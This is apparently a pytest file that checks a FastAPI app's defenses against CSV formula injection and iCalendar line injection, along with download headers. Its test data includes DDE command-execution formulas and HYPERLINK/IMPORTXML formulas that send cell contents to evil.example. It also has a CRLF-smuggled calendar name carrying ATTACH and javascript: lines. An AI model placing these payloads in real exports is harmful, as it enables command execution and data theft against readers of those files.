"""What is handed out as a file: formulas in tables, lines smuggled into calendars, and who may read what is written."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from api import spreadsheet
from api.access.models import Worker
from api.database import transaction
from api.escalations import links
from api.settings import ROOT
from tests.attacks.walk import label, places, routes
from tests.small_town import Town

FORMULAS = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", '=1+1";=1+1',
    '"=1+1', "=DDE(1;2;3)", "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")",
)  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS, ids=range(len(FORMULAS)))
def test_no_cell_that_we_write_is_a_formula(words: str) -> None:
    table = spreadsheet.written([["name", "note"], [words, words]])
    for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), repr(cell)


def test_tables_are_written_in_that_one_place_only() -> None:
    """Whoever writes a CSV of people's words goes through api/spreadsheet.py. The screen's curve has numbers only."""
    found = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "api").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|to_csv\(", path.read_text(encoding="utf-8"))
    }
    assert found == {"api/spreadsheet.py", "api/safety/evaluate.py"}


def test_what_is_downloaded_says_what_it_is(client: TestClient, town: Town) -> None:
    """A browser guesses nothing (nosniff), so a file that somebody named or filled is never run as a page."""
    here = places(town)
    client.cookies.update(town.signed_in(town.manager) | town.chatting(town.mine.parent)[0])
    for route in routes("GET"):
        if route.path.endswith("/events"):
            continue
        answer = client.get(here.address(route))
        kind = answer.headers.get("content-type", "")
        assert kind or not answer.content, label(route)
        assert answer.headers["x-content-type-options"] == "nosniff", label(route)
        if "filename" in answer.headers.get("content-disposition", ""):
            assert answer.headers["content-disposition"].startswith("attachment"), label(route)


def test_a_name_adds_no_line_to_a_calendar(client: TestClient, town: Town) -> None:
    evil = "Eve\r\nATTACH:http://evil.example/x\nDESCRIPTION;X=1:\\;,\u2028\x0bURL:javascript:alert(1)"
    with transaction() as session:
        session.execute(update(Worker).where(Worker.agency_id == town.agency.id).values(name=evil))
    for team in (True, False):
        address = links.Calendar(town.manager.id, team, 0).address.removeprefix("http://testserver")
        file = client.get(address)
        assert file.status_code == 200 and "BEGIN:VEVENT" in file.text
        unfolded = re.sub(r"\r\n[ \t]", "", file.text)
        for line in re.split(r"[\r\n]+", unfolded):
            assert not re.match(r"(ATTACH|DESCRIPTION;X|URL:java)", line), line
